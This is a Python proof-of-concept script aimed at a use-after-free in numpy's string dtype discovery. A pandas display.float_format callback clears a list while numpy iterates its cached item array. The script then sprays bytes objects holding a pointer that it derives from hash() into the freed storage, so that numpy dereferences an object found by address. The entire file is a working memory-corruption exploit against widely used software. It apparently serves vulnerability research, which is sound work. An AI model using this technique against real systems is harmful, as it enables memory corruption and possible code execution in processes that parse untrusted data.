# source: numpy 1.24 array_coercion.c PyArray_DiscoverDTypeAndShape_Recursive (caches PySequence_Fast_ITEMS of a list, then calls string discovery PyObject_Str per item); pandas display.float_format callable
# family: use-after-free of a list's item array during dtype=str discovery (list cleared in a formatter callback, freed storage reclaimed by bytes holding a pointer)
# goal: numpy reads object pointers out of freed memory: an object that is in no list (found by its address from hash()) is converted; 777.0 shows it was str()-ed
import numpy as np
import pandas as pd

hits = []
state = {"armed": False}
spray = []


class Tick:
    def __init__(self, s):
        self.s = s

    def __str__(self):
        return str(self.s)


def fmt(v):
    hits.append(v)
    if state["armed"]:
        state["armed"] = False
        lst.clear()
        for k in range(40):
            spray.append((ptr * 4)[:31])
    return "%.2f" % v


pd.set_option("display.float_format", fmt)

marker = Tick(pd.Series([777.0]))
h = hash(marker) & 0xFFFFFFFFFFFFFFFF
addr = ((h << 4) | (h >> 60)) & 0xFFFFFFFFFFFFFFFF
ptr = addr.to_bytes(8, "little")
print("marker at", hex(addr))

t = Tick(pd.Series([1.5]))
lst = ["a", "b", "c", t] + ["d"] * 4
state["armed"] = True
try:
    out = np.array(lst, dtype=str)
    print("array:", out)
except Exception as e:
    print("error:", type(e).__name__, e)
print("values formatted:", hits)
print("777.0 seen although marker was in no list:", 777.0 in hits)
